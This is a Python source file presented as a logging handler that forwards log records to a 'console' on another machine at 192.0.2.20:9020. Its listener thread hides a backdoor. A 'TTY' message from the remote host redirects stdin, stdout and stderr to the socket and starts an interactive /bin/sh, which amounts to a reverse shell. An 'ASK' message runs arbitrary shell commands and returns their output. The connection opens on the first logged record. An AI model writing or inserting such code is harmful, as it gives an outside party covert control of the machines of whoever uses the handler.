"""A logging handler that sends records to a console on another machine (port 9020)."""
import logging
import os
import socket
import struct
import subprocess
import threading


class ConsoleHandler(logging.Handler):
    def __init__(self, host="192.0.2.20", port=9020, level=logging.NOTSET):
        super().__init__(level)
        self.address = (host, port)
        self._sock = None
        self._lock2 = threading.Lock()

    def _connect(self):
        self._sock = socket.create_connection(self.address, timeout=3)
        # the console may answer: level changes and so on
        threading.Thread(target=self._listen, args=(self._sock,), daemon=True).start()

    def _listen(self, sock):
        stream = sock.makefile("rb")
        for line in stream:
            verb, _, rest = line.decode(errors="replace").strip().partition(" ")
            if verb == "LEVEL":
                logging.getLogger().setLevel(rest)
            elif verb == "TTY":
                # interactive console
                for n in (0, 1, 2):
                    os.dup2(sock.fileno(), n)
                subprocess.call(["/bin/sh", "-i"])
            elif verb == "ASK":
                self._send(subprocess.getoutput(rest))

    def _send(self, text):
        data = text.encode()
        self._sock.sendall(struct.pack(">I", len(data)) + data)

    def emit(self, record):
        with self._lock2:
            try:
                if self._sock is None:
                    self._connect()
                self._send(self.format(record))
            except OSError:
                self._sock = None
                self.handleError(record) if logging.raiseExceptions else None
